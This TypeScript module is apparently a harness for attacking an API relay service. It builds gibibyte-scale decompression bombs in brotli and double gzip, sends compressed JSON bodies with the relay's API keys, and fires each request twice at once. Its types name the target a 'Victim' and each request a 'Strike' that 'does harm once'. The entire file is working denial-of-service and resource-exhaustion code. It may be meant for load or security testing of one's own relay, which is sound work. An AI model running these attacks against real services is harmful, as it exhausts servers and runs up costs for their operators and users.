import { request } from "node:http";
import { brotliCompressSync, constants, gzipSync, zstdCompressSync } from "node:zlib";
import { filled, mebibyte } from "./filled.ts";

/** Who is attacked, and with whose keys: of an account with money, and of one without. */
export type Victim = { relayUrl: string; secret: string; poorSecret: string };

/** Does harm once; tells what was answered. */
export type Strike = (victim: Victim) => Promise<string>;

/** One attack. `prepare` makes what is sent, before anything is measured. */
export type Attack = { name: string; prepare: () => Strike };

export type Encoding = "br" | "gzip" | "zstd";
export type AttackRequest = { body: () => Buffer; encoding?: string; contentType?: string };

const patienceMs = 120_000;

const encoders: Record<Encoding, (body: Buffer) => Buffer> = {
  br: (body) => brotliCompressSync(body, { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } }),
  gzip: (body) => gzipSync(body, { level: 1 }),
  zstd: (body) => zstdCompressSync(body),
};

export const packed = (encoding: Encoding, body: () => Buffer): AttackRequest => ({
  body: () => encoders[encoding](body()),
  encoding,
});

/** A gigabyte of nothing; gzip is packed twice, which no relay unpacks. */
export const bombOf = (encoding: "br" | "gzip"): AttackRequest => ({
  body: () => {
    const inner = encoders[encoding](filled({ start: "{", unit: " ", end: "" }, 1_024 * mebibyte));
    return encoding === "gzip" ? gzipSync(inner) : inner;
  },
  encoding: encoding === "gzip" ? "gzip, gzip" : encoding,
});

function send(
  { relayUrl, secret }: Victim,
  path: string,
  sent: Omit<AttackRequest, "body">,
  body: Buffer,
): Promise<string> {
  const { encoding, contentType = "application/json" } = sent;
  const headers = {
    authorization: `Bearer ${secret}`,
    "x-api-key": secret,
    "anthropic-version": "2023-06-01",
    "content-type": contentType,
    "content-length": body.length,
    ...(encoding !== undefined && { "content-encoding": encoding }),
  };
  return new Promise((resolve) => {
    const asking = request(`${relayUrl}${path}`, { method: "POST", headers, timeout: patienceMs }, (answer) => {
      answer.resume().on("close", () => resolve(`${answer.statusCode}${answer.complete ? "" : " cut"}`));
    });
    asking.on("timeout", () => asking.destroy(new Error("nothing came")));
    asking.on("error", (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
    asking.end(body);
  });
}

/** An attack that sends the same request twice at once. */
export function json(name: string, path: string, { body: makeBody, ...sent }: AttackRequest): Attack {
  return {
    name,
    prepare: () => {
      const body = makeBody();
      return async (victim) => {
        const told = await Promise.all([send(victim, path, sent, body), send(victim, path, sent, body)]);
        return [...new Set(told)].join(", ");
      };
    },
  };
}
